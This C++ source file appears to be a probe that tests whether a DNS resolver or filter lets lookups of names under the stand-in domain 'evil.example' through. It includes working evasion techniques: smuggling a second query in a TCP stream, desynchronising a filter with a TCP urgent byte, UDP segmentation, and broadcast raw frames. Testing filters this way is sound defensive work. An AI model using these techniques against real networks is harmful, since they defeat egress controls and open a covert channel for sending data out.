// SPDX-License-Identifier: Apache-2.0
//
// asker RESOLVER [TECHNIQUE...]: asks the resolver for a name of its own with
// each technique, and prints a line for each, separated by tabs: technique, the
// name, and what came of it: "answered", "silence", or the errno of what was
// refused.
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>
#include <signal.h>
#include <sys/socket.h>
#include <sys/uio.h>
#include <unistd.h>

#include <algorithm>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <string>
#include <vector>

namespace {

using Bytes = std::vector<std::uint8_t>;

constexpr std::uint16_t kPort = 53;
constexpr std::size_t kHeader = 12;
constexpr char kDomain[] = ".evil.example";

Bytes operator+(Bytes left, const Bytes& right) {
  left.insert(left.end(), right.begin(), right.end());
  return left;
}

Bytes big_endian(std::size_t number) {
  return {static_cast<std::uint8_t>(number >> 8),
          static_cast<std::uint8_t>(number)};
}

Bytes message(const std::string& name, const Bytes& additional = {}) {
  Bytes bytes = {0x42, 0x42, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0};
  bytes[11] = additional.empty() ? 0 : 1;
  for (std::size_t at = 0; at < name.size();) {
    const std::size_t end = std::min(name.find('.', at), name.size());
    bytes.push_back(static_cast<std::uint8_t>(end - at));
    bytes.insert(bytes.end(), name.begin() + static_cast<long>(at),
                 name.begin() + static_cast<long>(end));
    at = end + 1;
  }
  return bytes + Bytes{0, 0, 1, 0, 1} + additional;
}

Bytes framed(const Bytes& bytes) { return big_endian(bytes.size()) + bytes; }

// An OPT record with as much padding.
Bytes padding(std::size_t size) {
  return Bytes{0, 0, 41, 16, 0, 0, 0, 0, 0} + big_endian(size + 4) +
         Bytes{0, 12} + big_endian(size) + Bytes(size);
}

sockaddr_in resolver;

int make_socket(int type) {
  const int fd = ::socket(AF_INET, type, 0);
  const timeval limit{.tv_sec = 0, .tv_usec = 500'000};
  ::setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof limit);
  return fd;
}

const sockaddr* to_resolver() {
  return reinterpret_cast<const sockaddr*>(&resolver);
}

std::string answer(int fd) {
  char bytes[4096];
  bool any = false;
  // Until there are no more: one for each question, the listed name's last.
  while (::recv(fd, bytes, sizeof bytes, 0) > 0) any = true;
  ::close(fd);
  return any ? "answered" : "silence";
}

std::string ended(long sent, int fd) {
  if (sent < 0) return ::strerrorname_np(errno);
  return answer(fd);
}

std::string send_datagram(const Bytes& bytes) {
  const int fd = make_socket(SOCK_DGRAM);
  return ended(::sendto(fd, bytes.data(), bytes.size(), 0, to_resolver(),
                        sizeof resolver),
               fd);
}

int connected(int type) {
  const int fd = make_socket(type);
  ::connect(fd, to_resolver(), sizeof resolver);
  return fd;
}

std::string send_stream(const Bytes& bytes, std::size_t piece) {
  const int fd = connected(SOCK_STREAM);
  const int yes = 1;
  ::setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &yes, sizeof yes);
  // Or the kernel would go on sending it when the next technique is tried.
  const linger at_once{.l_onoff = 1, .l_linger = 0};
  ::setsockopt(fd, SOL_SOCKET, SO_LINGER, &at_once, sizeof at_once);
  for (std::size_t at = 0; at < bytes.size(); at += piece) {
    const std::size_t size = std::min(piece, bytes.size() - at);
    if (::send(fd, &bytes[at], size, 0) < 0) return ended(-1, fd);
  }
  return answer(fd);
}

std::string by_sendto(const std::string& name) {
  return send_datagram(message(name));
}

std::string by_connected_send(const std::string& name) {
  const int fd = connected(SOCK_DGRAM);
  const Bytes bytes = message(name);
  return ended(::send(fd, bytes.data(), bytes.size(), 0), fd);
}

std::string by_mixed_case(const std::string& name) {
  std::string mixed = name;
  for (std::size_t i = 0; i < mixed.size(); i += 2) {
    if (mixed[i] >= 'a' && mixed[i] <= 'z') mixed[i] -= 'a' - 'A';
  }
  return send_datagram(message(mixed));
}

std::string by_padding(const std::string& name) {
  return send_datagram(message(name, padding(1000)));
}

std::string by_two_parts(const std::string& name) {
  Bytes bytes = message(name);
  iovec parts[2] = {{bytes.data(), kHeader},
                    {bytes.data() + kHeader, bytes.size() - kHeader}};
  msghdr header{};
  header.msg_name = &resolver;
  header.msg_namelen = sizeof resolver;
  header.msg_iov = parts;
  header.msg_iovlen = 2;
  const int fd = make_socket(SOCK_DGRAM);
  return ended(::sendmsg(fd, &header, 0), fd);
}

std::string by_stream(const std::string& name) {
  const Bytes bytes = framed(message(name));
  return send_stream(bytes, bytes.size());
}

std::string by_stream_in_bytes(const std::string& name) {
  return send_stream(framed(message(name)), 1);
}

std::string by_second_in_stream(const std::string& name) {
  const Bytes bytes = framed(message("good.example")) + framed(message(name));
  return send_stream(bytes, bytes.size());
}

// With one byte more, which is urgent and so not in what the resolver reads:
// the name begins behind it, and the last byte of the message, of which the
// length speaks, is the first of the next one's.
std::string by_urgent_byte(const std::string& name) {
  const int fd = connected(SOCK_STREAM);
  const linger at_once{.l_onoff = 1, .l_linger = 0};
  ::setsockopt(fd, SOL_SOCKET, SO_LINGER, &at_once, sizeof at_once);
  const Bytes bytes = message(name);
  const auto begin = bytes.begin() + kHeader;
  // To a filter the first label has one byte more: its own length.
  const Bytes before = big_endian(bytes.size() + 1) +
                       Bytes(bytes.begin(), begin) +
                       Bytes{static_cast<std::uint8_t>(*begin + 1)};
  const Bytes behind =
      Bytes(begin, bytes.end()) + framed(message("good.example"));
  if (::send(fd, before.data(), before.size(), MSG_OOB) < 0 ||
      ::send(fd, behind.data(), behind.size(), 0) < 0) {
    return ended(-1, fd);
  }
  return answer(fd);
}

// One datagram to the socket, two to the resolver.
std::string by_segmentation(const std::string& name) {
  Bytes evil = message(name);
  Bytes good = message("good.example");
  evil.resize(100);
  good.resize(100);
  const Bytes both = good + evil;
  const int fd = make_socket(SOCK_DGRAM);
  const int size = 100;
  ::setsockopt(fd, IPPROTO_UDP, UDP_SEGMENT, &size, sizeof size);
  return ended(
      ::sendto(fd, both.data(), both.size(), 0, to_resolver(), sizeof resolver),
      fd);
}

// A frame written by hand, to whoever is on the network; asked from a port that
// a socket has, to hear the answer.
std::string by_frame(const std::string& name) {
  const int fd = make_socket(SOCK_DGRAM);
  ::connect(fd, to_resolver(), sizeof resolver);
  sockaddr_in own{};
  socklen_t size = sizeof own;
  ::getsockname(fd, reinterpret_cast<sockaddr*>(&own), &size);
  const Bytes asked = message(name);
  const Bytes datagram = big_endian(ntohs(own.sin_port)) + big_endian(kPort) +
                         big_endian(asked.size() + 8) + Bytes(2) + asked;
  Bytes packet = Bytes{0x45, 0} + big_endian(datagram.size() + 20) + Bytes(4) +
                 Bytes{64, IPPROTO_UDP} + Bytes(10);
  std::memcpy(&packet[12], &own.sin_addr, 4);
  std::memcpy(&packet[16], &resolver.sin_addr, 4);
  std::size_t sum = 0;
  for (std::size_t i = 0; i < packet.size(); i += 2) {
    sum += packet[i] << 8 | packet[i + 1];
  }
  const Bytes checksum = big_endian(~(sum + (sum >> 16)));
  std::copy(checksum.begin(), checksum.end(), packet.begin() + 10);
  packet = packet + datagram;
  sockaddr_ll everybody{};
  everybody.sll_family = AF_PACKET;
  everybody.sll_protocol = htons(ETH_P_IP);
  everybody.sll_ifindex = static_cast<int>(::if_nametoindex("eth0"));
  everybody.sll_halen = ETH_ALEN;
  std::memset(everybody.sll_addr, 0xff, ETH_ALEN);
  const int frames = ::socket(AF_PACKET, SOCK_DGRAM, 0);
  const long sent =
      ::sendto(frames, packet.data(), packet.size(), 0,
               reinterpret_cast<const sockaddr*>(&everybody), sizeof everybody);
  const int error = errno;
  ::close(frames);
  errno = error;
  return ended(sent, fd);
}

struct Technique {
  const char* name;
  std::string (*ask)(const std::string& name);
};

const Technique kTechniques[] = {
    {"sendto", by_sendto},
    {"connected", by_connected_send},
    {"case", by_mixed_case},
    {"padding", by_padding},
    {"parts", by_two_parts},
    {"long", by_sendto},
    {"tcp", by_stream},
    {"bytes", by_stream_in_bytes},
    {"second", by_second_in_stream},
    {"urgent", by_urgent_byte},
    {"segments", by_segmentation},
    {"frame", by_frame},
};

std::string name_of(const Technique& technique) {
  std::string name = technique.name;
  if (name == "long") {
    const std::string label(63, 'x');
    name += "." + label + "." + label + "." + label;
  }
  return name + kDomain;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 2) return 2;
  ::signal(SIGPIPE, SIG_IGN);
  resolver.sin_family = AF_INET;
  resolver.sin_port = htons(kPort);
  ::inet_pton(AF_INET, argv[1], &resolver.sin_addr);
  for (const Technique& technique : kTechniques) {
    const bool wanted =
        argc == 2 || std::any_of(argv + 2, argv + argc, [&](const char* name) {
          return std::strcmp(name, technique.name) == 0;
        });
    if (!wanted) continue;
    const std::string name = name_of(technique);
    const std::string result = technique.ask(name);
    std::printf("%s\t%s\t%s\n", technique.name, name.c_str(), result.c_str());
    std::fflush(stdout);
  }
  return 0;
}
